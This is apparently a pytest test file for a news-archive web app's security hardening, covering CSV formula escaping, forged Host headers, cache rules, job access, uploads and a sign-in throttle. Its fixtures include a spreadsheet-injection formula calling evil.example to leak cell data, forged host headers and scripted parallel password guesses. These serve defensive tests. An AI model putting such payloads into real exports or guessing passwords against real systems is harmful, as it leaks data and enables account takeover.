"""Hardening of the web side (#41): CSV exports a spreadsheet cannot run, links that no Host header can change,
caching that keeps one user's answers out of shared caches, jobs seen by their owner and admins only, uploads up to
the limit the message names and none read from a client that is not signed in, and a sign-in throttle that holds
against parallel guesses and keeps its table bounded."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import socket
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid

import pytest
from conftest import page_html, run_cli
from web_server import newsarchive_serve

from indexer.archive import Archive
from indexer.store import ANY_NAME, THROTTLE_NAMES, THROTTLE_ROWS
from search_app import create_app
from search_app.accounts import Accounts
from search_app.archive_area import MAX_UPLOAD_FILES
from search_app.citation import base_url
from search_app.jobs import Jobs

PASSWORD = "a lantern on the quay at night"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Open the report")'
FORMULA_SOURCE = "@SUM(1+1)*cmd"
QUOTE = "“We will open the flood gates at dawn,” said Marta Kowalczyk, the harbour master."


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    """An archive holding a planted page (a headline and an outlet name a spreadsheet would run), an admin and
    two archivists."""
    from indexer.ingest.pipeline import ingest

    root = tmp_path_factory.mktemp("web-hardening")
    pages = root / "pages"
    pages.mkdir()
    (pages / "planted.html").write_text(page_html(
        html.escape(FORMULA_TITLE), ["The river rose by two metres overnight in the old town.", QUOTE,
                                     "Residents were asked to move their cars away from the embankment."],
        source=html.escape(FORMULA_SOURCE), url="https://planted.example/flood/"), encoding="utf-8")
    with Archive(root / "data") as archive:
        report = ingest(archive, [str(pages)])
        assert len(report.added) == 1, report.failed
        accounts = Accounts(archive.store)
        for name in ("chief", "alice", "bob"):
            accounts.add(name, PASSWORD)
    return root / "data"


def _token(text: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', text).group(1)


def _signed_in(app, name: str):
    client = app.test_client()
    token = _token(client.get("/archive/sign-in").get_data(as_text=True))
    assert client.post("/archive/sign-in", data={"name": name, "password": PASSWORD, "csrf_token": token}
                       ).status_code == 302
    return client


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


# -- CSV exports a spreadsheet reads as text -------------------------------------------------------------------
def test_every_csv_export_shows_a_formula_as_text(data):
    client = create_app(data, TESTING=True).test_client()
    articles = _csv_rows(client.get("/api/search/export?format=csv&q=river").get_data(as_text=True))
    quotes = _csv_rows(client.get("/api/quotes/export?format=csv&q=flood").get_data(as_text=True))
    shell = _csv_rows(run_cli("search", "--export", "csv", "river", data=data, check=True).stdout)
    for rows in (articles, quotes, shell):
        assert len(rows) == 1
        assert rows[0]["title"] == "'" + FORMULA_TITLE, "the apostrophe makes a spreadsheet show the text"
        assert rows[0]["source"] == "'" + FORMULA_SOURCE
        assert rows[0]["citation"].startswith(f"'{FORMULA_SOURCE}, \"{FORMULA_TITLE}\", 2026-03-14, "), \
            "only the start of a cell matters"
    assert quotes[0]["text"].startswith("We will open"), "an ordinary cell is left as it is"
    jsonl = json.loads(client.get("/api/search/export?format=jsonl&q=river").data)
    assert jsonl["title"] == FORMULA_TITLE, "JSON Lines are read by programs, not spreadsheets: unchanged"


# -- links that no Host header changes -------------------------------------------------------------------------
def test_a_forged_host_header_does_not_change_permalinks(data):
    client = create_app(data, TESTING=True, BASE_URL="https://archive.example.org").test_client()
    forged = {"Host": "forged.example", "X-Forwarded-Host": "forged.example", "X-Forwarded-Proto": "http"}
    hit = client.get("/api/search?q=river", headers=forged).get_json()["hits"][0]
    assert hit["permalink"].startswith("https://archive.example.org/articles/")
    assert "forged.example" not in hit["citation"]
    exported = json.loads(client.get("/api/search/export?format=jsonl&q=river", headers=forged).data)
    assert exported["permalink"] == hit["permalink"]
    page = client.get("/search?q=river", headers=forged).get_data(as_text=True)
    assert "forged.example" not in page
    default = create_app(data, TESTING=True).test_client()  # no base URL given: the CLI's, never the Host header
    assert default.get("/api/search?q=river", headers=forged).get_json()["hits"][0]["permalink"].startswith(
        base_url() + "/articles/")


# -- what caches may keep ----------------------------------------------------------------------------------------
def test_api_answers_say_what_caches_may_keep(data):
    app = create_app(data, TESTING=True)
    client = app.test_client()
    search = client.get("/api/search?q=river")
    assert search.headers["Cache-Control"] == "no-cache", "public, but asked again each time: new pages arrive"
    assert {"Accept-Language", "Cookie"} <= set(search.vary), "facet labels follow the reader's language"
    again = client.get("/api/search?q=river", headers={"If-None-Match": search.headers["ETag"]})
    assert again.status_code == 304 and again.data == b"", "an unchanged answer is not sent twice"
    assert client.get("/api/search/export?format=csv&q=river").headers["Cache-Control"] == "no-cache"
    assert client.get("/api/openapi.json").headers["Cache-Control"] == "public, max-age=3600"
    for path in ("/api/articles/no-such-article", "/api/search?q=(", "/api/jobs"):
        assert client.get(path).headers["Cache-Control"] == "no-store", path
    signed_in = _signed_in(app, "alice")
    assert signed_in.get("/api/jobs").headers["Cache-Control"] == "no-store", "one user's jobs"


# -- jobs: their owner's and the admins' -------------------------------------------------------------------------
def test_an_archivist_sees_only_their_own_jobs_and_an_admin_sees_all(data):
    app = create_app(data, TESTING=True)
    with Archive(data) as archive:  # (queued after the app started, so no job runs: only who sees them is tested)
        jobs = Jobs(archive.store)
        alices = jobs.submit("alice", ["/srv/uploads/001-confidential-source-notes.html"])
        bobs = jobs.submit("bob", ["https://news.example/bobs-story"])
    alice, bob, chief = (_signed_in(app, name) for name in ("alice", "bob", "chief"))
    assert [j["id"] for j in bob.get("/api/jobs").get_json()["jobs"]] == [bobs]
    assert bob.get(f"/api/jobs/{alices}").status_code == 404
    assert "there is no job" in bob.get(f"/api/jobs/{alices}").get_json()["error"]
    assert bob.get(f"/archive/jobs/{alices}").status_code == 404
    dashboard = bob.get("/archive").get_data(as_text=True)
    assert f"#{bobs}" in dashboard and f"#{alices}" not in dashboard
    cancel = bob.post(f"/archive/jobs/{alices}/cancel", data={"csrf_token": _token(dashboard)})
    assert cancel.status_code == 404, "nor can they cancel it"
    assert alice.get(f"/api/jobs/{alices}").get_json()["inputs"] == ["001-confidential-source-notes.html"]
    assert {j["id"] for j in chief.get("/api/jobs").get_json()["jobs"]} >= {alices, bobs}
    assert chief.get(f"/archive/jobs/{alices}").status_code == 200
    with Archive(data) as archive:
        assert Jobs(archive.store).get(alices).status == "queued", "bob's cancel changed nothing"
        for job in (alices, bobs):
            Jobs(archive.store).cancel(job)


# -- uploads: the limit the message names, and nothing read from strangers -----------------------------------
def _call(url: str, data: bytes | None = None, headers: dict | None = None) -> tuple[int, dict, str]:
    opener = urllib.request.build_opener(_NoRedirect)
    try:
        with opener.open(urllib.request.Request(url, data=data, headers=headers or {}), timeout=120) as r:
            return r.status, dict(r.headers), r.read().decode()
    except urllib.error.HTTPError as r:
        return r.code, dict(r.headers), r.read().decode()


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


def _http_sign_in(base: str, name: str) -> tuple[str, str]:
    """(session cookie, CSRF token) of a fresh sign-in over HTTP."""
    _, headers, page = _call(base + "/archive/sign-in")
    cookie = headers["Set-Cookie"].split(";", 1)[0]
    form = urllib.parse.urlencode({"name": name, "password": PASSWORD, "csrf_token": _token(page)}).encode()
    status, headers, _ = _call(base + "/archive/sign-in", form, {"Cookie": cookie})
    assert status == 302
    cookie = headers["Set-Cookie"].split(";", 1)[0]
    _, _, page = _call(base + "/archive", headers={"Cookie": cookie})
    return cookie, _token(page)


def _multipart(token: str, files: int) -> tuple[bytes, str]:
    boundary = uuid.uuid4().hex
    parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n']
    parts += [f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="page-{n}.html"\r\n'
              f"Content-Type: text/html\r\n\r\n<p>{n}</p>\r\n" for n in range(files)]
    return ("".join(parts) + f"--{boundary}--\r\n").encode(), f"multipart/form-data; boundary={boundary}"


@pytest.fixture(scope="module")
def server(data):
    with newsarchive_serve(data, "--threads", "16") as serving:
        yield serving


def test_an_upload_of_as_many_files_as_the_message_says_is_taken_and_one_more_refused(server):
    cookie, token = _http_sign_in(server.url, "alice")
    body, kind = _multipart(token, MAX_UPLOAD_FILES)
    status, headers, _ = _call(server.url + "/archive/add", body, {"Cookie": cookie, "Content-Type": kind})
    assert status == 302, "5,000 files are one job"
    job = int(headers["Location"].rsplit("/", 1)[1])
    _, _, answer = _call(f"{server.url}/api/jobs/{job}", headers={"Cookie": cookie})
    assert len(json.loads(answer)["inputs"]) == MAX_UPLOAD_FILES
    _call(f"{server.url}/archive/jobs/{job}/cancel", urllib.parse.urlencode({"csrf_token": token}).encode(),
          {"Cookie": cookie})
    body, kind = _multipart(token, MAX_UPLOAD_FILES + 1)
    status, _, page = _call(server.url + "/archive/add", body, {"Cookie": cookie, "Content-Type": kind})
    assert status == 413 and f"{MAX_UPLOAD_FILES} files at once" in html.unescape(page)


def test_an_upload_from_a_client_that_is_not_signed_in_is_refused_before_its_body_is_sent(server):
    port = int(server.url.rsplit(":", 1)[1])
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall(b"POST /archive/add HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: multipart/form-data; "
                     b"boundary=x\r\nContent-Length: %d\r\nExpect: 100-continue\r\n\r\n" % (300 * 2**20))
        started, answer = time.monotonic(), b""
        while chunk := conn.recv(4096):  # the 300 MiB body is never sent: the answer comes without it
            answer += chunk
    answer = answer.decode()
    assert answer.startswith("HTTP/1.1 401"), answer
    assert "Sign in first at /archive/sign-in" in answer and time.monotonic() - started < 5


def test_the_session_is_checked_before_the_form_is_read(data):
    client = create_app(data, TESTING=True).test_client()
    body, kind = _multipart("not-a-token", 3)
    r = client.post("/archive/add", data=body, content_type=kind)
    assert r.status_code == 302 and "/archive/sign-in" in r.headers["Location"], \
        "a stranger is sent to sign in (not told that a form they never had expired)"


# -- the sign-in throttle ---------------------------------------------------------------------------------------
def test_parallel_wrong_passwords_get_no_more_guesses_than_one_after_another(server, data):
    clients = []
    for _ in range(16):  # each with its own session and form, as 16 browsers would
        _, headers, page = _call(server.url + "/archive/sign-in")
        clients.append((headers["Set-Cookie"].split(";", 1)[0], _token(page)))
    barrier, statuses = threading.Barrier(16), []

    def guess(cookie: str, token: str) -> None:
        form = urllib.parse.urlencode({"name": "ghost", "password": "guess number something", "csrf_token": token})
        barrier.wait()
        statuses.append(_call(server.url + "/archive/sign-in", form.encode(), {"Cookie": cookie})[0])

    threads = [threading.Thread(target=guess, args=c) for c in clients]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(statuses) == [401] * 5 + [429] * 11, "five free guesses, then the wait, however they are sent"
    with Archive(data) as archive, archive.store.transaction() as db:
        db.execute("DELETE FROM sign_in_failures")


def test_guessing_ever_new_names_from_one_address_is_slowed_as_one_name_is(data):
    client = create_app(data, TESTING=True).test_client()
    client.environ_base["REMOTE_ADDR"] = "203.0.113.9"
    token = _token(client.get("/archive/sign-in").get_data(as_text=True))

    def guess(name: str) -> int:
        return client.post("/archive/sign-in", data={"name": name, "password": "x" * 12, "csrf_token": token}
                           ).status_code

    with Archive(data) as archive, archive.store.transaction() as db:  # as if it had guessed as many names already
        db.executemany("INSERT INTO sign_in_failures (name, address, failures, last) VALUES (?,?,1,?)",
                       [(f"name-{n}", "203.0.113.9", time.time()) for n in range(THROTTLE_NAMES - 1)])
    assert guess("one-more-name") == 401
    assert [guess(f"other-{n}") for n in range(6)] == [401] * 5 + [429], "further names share one count"
    with Archive(data) as archive:
        rows = archive.store.db.execute("SELECT name FROM sign_in_failures WHERE address='203.0.113.9'").fetchall()
        assert len(rows) == THROTTLE_NAMES + 1 and ANY_NAME in {r[0] for r in rows}
        with archive.store.transaction() as db:
            db.execute("DELETE FROM sign_in_failures")


def test_the_table_of_wrong_passwords_is_bounded(data):
    stamp = time.time() - 2 * THROTTLE_ROWS
    with Archive(data) as archive, archive.store.transaction() as db:  # as if many addresses had guessed already
        db.executemany("INSERT INTO sign_in_failures (name, address, failures, last) VALUES (?,?,1,?)",
                       [(f"n{n}", f"198.51.{n // 256}.{n % 256}", stamp + n) for n in range(THROTTLE_ROWS)])
    client = create_app(data, TESTING=True).test_client()
    client.environ_base["REMOTE_ADDR"] = "192.0.2.200"
    token = _token(client.get("/archive/sign-in").get_data(as_text=True))
    client.post("/archive/sign-in", data={"name": "someone-new", "password": "x" * 12, "csrf_token": token})
    with Archive(data) as archive:
        db = archive.store.db
        assert db.execute("SELECT COUNT(*) FROM sign_in_failures").fetchone()[0] == THROTTLE_ROWS
        assert db.execute("SELECT 1 FROM sign_in_failures WHERE name='someone-new'").fetchone(), "the newest stays"
        assert not db.execute("SELECT 1 FROM sign_in_failures WHERE name='n0'").fetchone(), "the oldest went"
        with archive.store.transaction() as tx:
            tx.execute("DELETE FROM sign_in_failures")
